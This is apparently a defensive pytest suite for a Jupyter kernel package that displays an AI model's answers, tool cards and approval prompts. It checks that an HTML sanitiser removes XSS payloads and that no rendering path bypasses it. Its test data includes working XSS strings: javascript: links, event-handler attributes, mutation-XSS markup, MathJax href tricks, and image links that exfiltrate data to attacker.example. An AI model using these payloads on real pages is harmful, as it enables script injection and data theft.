"""Every public XSS payload of `brs-kb` (read at test time, see `xss_payloads`) through every
place the kernel turns text into HTML: the model's Markdown answer, a plan to approve, a tool
card's result, input and summary, an approval prompt, a thinking section, the timeline's
SVG, `%agent output`, a notice and a table. What comes out is parsed and must hold no element
or attribute outside the allow-lists, no event attribute, no URL with a scheme other than
http, https or mailto (and inline images), and no CSS that loads or covers. A normal Markdown
answer keeps its table, code, link, list and heading.

The source of the package is scanned too: a new way of making HTML that skips the gate
(`safe_html`) fails `test_every_html_path_goes_through_the_gate`.
"""

from __future__ import annotations

import ast
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from xss_payloads import NORMAL_ANSWER, contexts, payloads, sample

from jupyter_toolhost.jupyter.views import safe_html
from jupyter_toolhost.jupyter.views.answer import answer_display, streaming_display
from jupyter_toolhost.jupyter.views.cards import CallCard, batch_display
from jupyter_toolhost.jupyter.views.render import (
    Rendered,
    notice_display,
    output_display,
    table_display,
)
from jupyter_toolhost.jupyter.views.thinking import ThinkingPart, ThinkingSection, thinking_display
from jupyter_toolhost.jupyter.views.timeline import timeline_display
from jupyter_toolhost.jupyter.widgets.approval import plan_html, prompt_html
from jupyter_toolhost.permissions.api import ApprovalRequest

PACKAGE = Path(__file__).resolve().parents[2] / "jupyter_toolhost"
ALL_TAGS = safe_html.DISPLAY_TAGS
ALL_ATTRIBUTES = set().union(*safe_html.DISPLAY_ATTRIBUTES.values()) | {"rel", "open"}
URL_ATTRIBUTES = {"href", "src"}
SAFE_SCHEMES = {"http", "https", "mailto"}


class _Dangers(HTMLParser):
    """Whatever in parsed HTML could run, load, or fall outside the allow-lists."""

    def __init__(self, tags: frozenset[str], attributes: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags = {t.lower() for t in tags}
        self.attributes = {a.lower() for a in attributes}
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.found.append(f"element <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name not in self.attributes:
                self.found.append(f"attribute {name}= on <{tag}>")
            if name in URL_ATTRIBUTES and not _safe_url(name, value):
                self.found.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and re.search(r"url\(|expression|position|@import|\\", value, re.I):
                self.found.append(f"style={value!r}")

    handle_startendtag = handle_starttag


def _safe_url(attribute: str, value: str) -> bool:
    """As a browser reads the URL (WHATWG: tabs and newlines removed, C0 and spaces
    trimmed, then a scheme is letters, digits, ``+``, ``-``, ``.`` before a colon)."""
    if attribute == "src" and safe_html.INLINE_IMAGE.match(value.strip()):
        return True
    cleaned = re.sub(r"[\t\n\r]", "", value).strip(
        "\x00\x01\x02\x03\x04\x05\x06\x07\x08"
        "\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "
    )
    if attribute == "src" and cleaned.startswith(("//", "\\\\", "/\\", "\\/")):
        return False  # a remote image, loaded by the page itself
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    if scheme is None:
        return True  # relative
    return scheme.group(1).lower() in SAFE_SCHEMES and attribute == "href"


def dangers(markup: str, *, markdown: bool = False) -> list[str]:
    parser = _Dangers(
        safe_html.MARKDOWN_TAGS if markdown else ALL_TAGS,
        set().union(*safe_html.MARKDOWN_ATTRIBUTES.values()) | {"rel"}
        if markdown
        else ALL_ATTRIBUTES,
    )
    parser.feed(markup)
    parser.close()
    return parser.found


def _card(text: str) -> CallCard:
    return CallCard(
        "toolu_1", text[:40], text, 1, "done", 0.0, 0.5, text, code=("python", text), tail=(text,)
    )


def _request(text: str) -> ApprovalRequest:
    return ApprovalRequest(
        tool_name=text[:30],
        display_name=text[:30],
        summary=text,
        message=text,
        input={"command": text, text[:20]: text},
        reason=None,
        suggested_rules=(f"Bash({text[:20]}:*)",),
        tool_use_id="toolu_1",
        agent_id=text[:20],
        destructive=True,
    )


def _views(text: str) -> dict[str, str]:
    """Every HTML a cell shows with `text` in it."""
    thinking = ThinkingSection("k", 1, [ThinkingPart(False, text)])
    timeline = timeline_display([_card(text)]).data
    return {
        "batch": batch_display([_card(text)], batch=1).data["text/html"],
        "prompt": safe_html.widget_html(prompt_html(_request(text))),
        "thinking": thinking_display(thinking).data["text/html"],
        "timeline": timeline["text/html"],
        "timeline-svg": timeline["image/svg+xml"],
        "notice": notice_display(text).data["text/html"],
        "output": output_display(text, text, text).data["text/html"],
        "table": table_display("x", [text[:10] or "c"], [[text]], title=text).data["text/html"],
    }


def test_the_payload_list_is_big_and_varied() -> None:
    assert len(payloads()) > 4000
    assert {"html_content", "html_attribute", "url", "svg", "css", "markdown"} <= contexts()


def test_no_payload_survives_as_the_models_markdown() -> None:
    failures = []
    for payload in payloads():
        answer = answer_display(payload.text).data["text/html"]
        streamed = streaming_display(payload.text).data["text/html"]
        plan = safe_html.widget_html(plan_html(payload.text))
        for found in (dangers(answer, markdown=True), dangers(streamed, markdown=True)):
            if found:
                failures.append((payload.name, payload.text, found))
        if found := dangers(plan):
            failures.append((payload.name, payload.text, found))
    assert failures == [], failures[:5]


def test_no_payload_survives_in_a_card_prompt_or_view() -> None:
    """A sample that holds every context (eight views each: every payload takes 40 s here;
    every payload goes through the gate itself below)."""
    chosen = sample(1200)
    assert {p.context for p in chosen} == contexts()
    failures = []
    for payload in chosen:
        for view, markup in _views(payload.text).items():
            if found := dangers(markup):
                failures.append((payload.name, view, found))
    assert failures == [], failures[:5]


def test_no_payload_survives_the_gate_itself() -> None:
    """Raw payloads straight into a display's HTML: the last wall, for a template that
    forgot to escape."""
    failures = []
    for payload in payloads():
        markup = Rendered({"text/html": payload.text, "text/plain": ""}).data["text/html"]
        if found := dangers(markup):
            failures.append((payload.name, payload.text, found))
    assert failures == [], failures[:5]


def test_a_normal_answer_keeps_its_formatting() -> None:
    markup = answer_display(NORMAL_ANSWER).data["text/html"]
    for kept in (
        "<h2>Results</h2>",
        "<table>",
        '<th style="text-align:right">mean</th>',
        '<code class="language-python">',
        '<a href="https://pandas.pydata.org/docs/" rel="noopener noreferrer nofollow">',
        "<li>",
        "<strong>bold</strong>",
        "<code>code</code>",
    ):
        assert kept in markup, (kept, markup)
    assert dangers(markup, markdown=True) == []


@pytest.mark.parametrize(
    ("markdown", "kept", "gone"),
    [
        ("[x](javascript:alert(1))", ">x</a>", "javascript"),
        ("[x](JaVaScRiPt&#58;alert(1))", ">x</a>", "alert(1)"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", ">x</a>", "data:"),
        ("<javascript:alert(1)>", "", 'href="javascript'),
        ("![x](https://attacker.example/?q=secret)", "<img", "attacker"),
        ("![x](//attacker.example/p.png)", "<img", "attacker"),
        ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "<img", "svg"),
        ("![x](plot.png)", 'src="plot.png"', "onerror"),
        ('[t](https://x "a&quot; onmouseover=&quot;alert(1)")', ">t</a>", 'onmouseover="'),
    ],
)
def test_markdown_links_and_images_keep_only_safe_targets(
    markdown: str, kept: str, gone: str
) -> None:
    markup = answer_display(markdown).data["text/html"]
    assert kept in markup, markup
    assert gone not in markup, markup
    assert dangers(markup, markdown=True) == [], markup


@pytest.mark.parametrize(
    "raw",
    [
        "<details open ontoggle=alert(1)><summary>s</summary>b</details>",
        '<img src=x onerror="alert(1)">',
        "<svg><script>alert(1)</script></svg>",
        "<style>*{display:none}</style>",
        '<p style="position:fixed;inset:0">over</p>',
        "<form action=https://x><button>Allow</button></form>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '<meta http-equiv="refresh" content="0;url=https://x">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
)
def test_raw_html_in_an_answer_is_shown_as_the_text_the_model_wrote(raw: str) -> None:
    """As in Claude Code's terminal and in the plan approval: a reader sees what was sent."""
    markup = answer_display(f"before\n\n{raw}\n\nafter").data["text/html"]
    assert html.escape(raw, quote=False) in markup.replace("&quot;", '"'), markup
    assert dangers(markup, markdown=True) == []


@pytest.mark.parametrize(
    ("raw", "left"),
    [
        ("<details open ontoggle=alert(1)><summary>s</summary>b</details>", "<details open"),
        ('<p style="position:fixed;inset:0;color:red">over</p>', '<p style="color:red">over</p>'),
        ('<div style="background:url(https://x/p)">b</div>', "<div>b</div>"),
        ("<form action=https://x><button>Allow</button></form>", "Allow"),
        ("<iframe srcdoc='<script>alert(1)</script>'></iframe>ok", "ok"),
        ('<meta http-equiv="refresh" content="0;url=https://x">ok', "ok"),
        ("<svg><script>alert(1)</script><a href=javascript:alert(1)>x</a></svg>", "x</a>"),
        ('<a href="#use-1" onclick="alert(1)">t</a>', 'href="#use-1"'),
        ("<span class='jp-Dialog toolhost-x'>t</span>", "<span>t</span>"),
    ],
)
def test_the_gate_keeps_layout_and_drops_what_runs_loads_or_covers(raw: str, left: str) -> None:
    markup = Rendered({"text/html": raw}).data["text/html"]
    assert left in markup, markup
    assert dangers(markup) == [], markup


@pytest.mark.parametrize(
    ("tex", "typeset"),
    [
        ("$x_1^2 + \\alpha$", True),
        ("$$\\sum_{i=1}^n i = \\frac{n(n+1)}{2}$$", True),
        ("$\\href{javascript:alert(1)}{x}$", False),
        ("$\\style{position:fixed}{x}$", False),
        ("$\\class{jp-Dialog}{x}$", False),
        ("$\\def\\h{\\hr}\\h ef{javascript:alert(1)}{x}$", False),
        ("$\\bbox[background:url(https://x)]{x}$", False),
        ("$\\require{html}$", False),
    ],
)
def test_only_math_without_links_styles_or_macros_is_typeset(tex: str, typeset: bool) -> None:
    """MathJax typesets ``$…$`` in any HTML output and its TeX can make links and styles:
    every display is marked for it to skip, but for math regions whose TeX is safe."""
    markup = answer_display(f"see {tex} here").data["text/html"]
    assert markup.startswith(f'<div class="{safe_html.NO_MATH}">'), markup
    assert (safe_html.TYPESET in markup) is typeset, markup
    card = batch_display([_card(tex)], batch=1).data["text/html"]
    assert safe_html.TYPESET not in card and card.startswith(f'<div class="{safe_html.NO_MATH}">')


def test_a_title_cannot_break_out_of_its_attribute() -> None:
    text = '" onmouseover="alert(1)" x="'
    for view, markup in _views(text).items():
        assert dangers(markup) == [], view  # the quotes stay text: no attribute is made


def test_no_markdown_and_no_javascript_leave_the_kernel() -> None:
    shown = Rendered(
        {"text/markdown": "<img src=x onerror=alert(1)>", "application/javascript": "alert(1)"}
    )
    assert set(shown.data) == {"text/html"}
    assert "<p>&lt;img src=x onerror=alert(1)&gt;</p>" in shown.data["text/html"]


# ── no path around the gate ─────────────────────────────────────────────────────────────

HTML_WIDGETS = {"HTML", "HTMLMath"}
FORBIDDEN_STRINGS = {"text/markdown", "application/javascript", "text/javascript"}
FORBIDDEN_NAMES = {
    "description_allow_html",
    "publish_display_data",
    "_repr_html_",
    "_repr_markdown_",
    "_repr_javascript_",
    "_repr_svg_",
}
IPYTHON_MARKUP = {"HTML", "Markdown", "Javascript", "SVG", "Latex", "IFrame", "DisplayObject"}
GATED_BY = {"widget_html", "Rendered", "clean_html"}


def _python_files() -> list[Path]:
    """The layer that shows things (nothing below it imports IPython or ipywidgets)."""
    return sorted(p for p in (PACKAGE / "jupyter").rglob("*.py") if p.name != "safe_html.py")


def _call_name(node: ast.expr) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return node.attr
    return ""


def test_every_html_path_goes_through_the_gate() -> None:
    """Markup leaves the kernel only through `render.Rendered` (which cleans every
    ``text/html`` and ``image/svg+xml``) or `safe_html.widget_html` (widget values); code run
    by PythonExec is shown as `KernelOutput`, in one place. A new path fails here."""
    problems: list[str] = []
    kernel_outputs: list[str] = []
    for path in _python_files():
        tree = ast.parse(path.read_text(), str(path))
        where = path.relative_to(PACKAGE.parent)
        parents = {child: node for node in ast.walk(tree) for child in ast.iter_child_nodes(node)}
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and node.value in FORBIDDEN_STRINGS:
                parent = parents.get(node)
                if not isinstance(parent, ast.Expr):  # a docstring may name them
                    problems.append(f"{where}:{node.lineno}: {node.value!r}")
            if isinstance(node, ast.Name | ast.Attribute | ast.FunctionDef | ast.keyword):
                name = getattr(node, "id", None) or getattr(node, "attr", None)
                name = name or getattr(node, "name", None) or getattr(node, "arg", None)
                if name in FORBIDDEN_NAMES:
                    problems.append(f"{where}:{getattr(node, 'lineno', '?')}: {name}")
            if isinstance(node, ast.ImportFrom) and node.module == "IPython.display":
                for alias in node.names:
                    if alias.name in IPYTHON_MARKUP:
                        problems.append(f"{where}:{node.lineno}: IPython.display.{alias.name}")
            if isinstance(node, ast.Call) and _call_name(node.func) in HTML_WIDGETS:
                value = next((k.value for k in node.keywords if k.arg == "value"), None)
                value = value or (node.args[0] if node.args else None)
                if not (isinstance(value, ast.Call) and _call_name(value.func) in GATED_BY):
                    problems.append(f"{where}:{node.lineno}: widget HTML not through widget_html")
            if isinstance(node, ast.Dict):
                keys = {k.value for k in node.keys if isinstance(k, ast.Constant)}
                if keys & {"text/html", "image/svg+xml"}:
                    call = parents.get(node)
                    if not (isinstance(call, ast.Call) and _call_name(call.func) in GATED_BY):
                        problems.append(f"{where}:{node.lineno}: HTML bundle outside Rendered")
            if isinstance(node, ast.Call) and _call_name(node.func) == "KernelOutput":
                kernel_outputs.append(f"{where}")
    assert problems == []
    assert kernel_outputs == ["jupyter_toolhost/jupyter/views/live.py"]
